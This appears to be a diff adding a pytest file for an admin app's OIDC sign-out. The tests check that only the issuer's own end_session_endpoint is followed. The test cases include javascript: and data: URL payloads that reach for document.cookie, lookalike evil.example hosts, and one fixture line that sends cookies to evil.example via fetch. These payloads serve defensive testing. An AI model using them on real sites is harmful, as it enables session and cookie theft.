@@ -1,0 +1,74 @@
+"""Sign-out sends the browser to the provider's end_session_endpoint only when it is the issuer's own:
+a discovery document that names a script or another host is not followed."""
+
+import re
+from collections.abc import Iterator
+
+import pytest
+from starlette.testclient import TestClient
+
+from admin_app.auth.oidc import trusted_end_session_endpoint
+from tests.auth.conftest import APP_URL, app_routes, sign_in_through
+from tests.auth.fake_issuer import Issuer, fake_issuer
+
+OKTA = "https://example.okta.com/oauth2/default"
+
+
+@pytest.mark.parametrize(
+    ("endpoint", "trusted"),
+    [
+        (f"{OKTA}/v1/logout", True),
+        ("https://example.okta.com:8443/logout", True),
+        ("javascript:alert(document.cookie)", False),
+        ("JavaScript://example.okta.com/%0aalert(1)", False),
+        ("data:text/html,<script>alert(1)</script>", False),
+        ("http://example.okta.com/oauth2/default/v1/logout", False),
+        ("https://evil.example/logout", False),
+        ("https://example.okta.com.evil.example/logout", False),
+        ("https://evil.example@example.okta.com/logout", True),
+        ("//example.okta.com/logout", False),
+        ("https://[::1/logout", False),
+        (42, False),
+    ],
+)
+def test_only_the_issuers_own_https_endpoint_is_trusted(endpoint, trusted):
+    expected = endpoint if trusted else None
+    assert trusted_end_session_endpoint({"end_session_endpoint": endpoint}, OKTA) == expected
+
+
+def test_the_development_providers_plain_http_endpoint_is_trusted_on_its_own_origin():
+    issuer = "http://127.0.0.1:9400"
+    assert trusted_end_session_endpoint({"end_session_endpoint": f"{issuer}/end"}, issuer) == f"{issuer}/end"
+    other_port = {"end_session_endpoint": "http://127.0.0.1:9401/end"}
+    assert trusted_end_session_endpoint(other_port, issuer) is None
+
+
+@pytest.fixture
+def issuer() -> Iterator[Issuer]:
+    with fake_issuer() as running:
+        yield running
+
+
+@pytest.fixture
+def client(session, db_url, issuer, monkeypatch) -> Iterator[TestClient]:
+    with app_routes(db_url, issuer.url, monkeypatch) as test_client:
+        yield test_client
+
+
+def sign_out_target(client: TestClient) -> str:
+    sign_in_through(client)
+    response = client.post("/auth/logout", headers={"Origin": APP_URL}, follow_redirects=False)
+    assert response.status_code == 200
+    return re.search(r'href="([^"]+)"', response.text)[1].replace("&amp;", "&")
+
+
+def test_a_script_url_in_discovery_is_not_where_sign_out_goes(client, issuer):
+    issuer.discovery_extra = {
+        "end_session_endpoint": "javascript:fetch('https://evil.example/'+document.cookie)"
+    }
+    assert sign_out_target(client) == "/auth/signed-out"
+
+
+def test_the_issuers_own_endpoint_is_where_sign_out_goes(client, issuer):
+    issuer.discovery_extra = {"end_session_endpoint": f"{issuer.url}/end"}
+    assert sign_out_target(client).startswith(f"{issuer.url}/end?id_token_hint=")
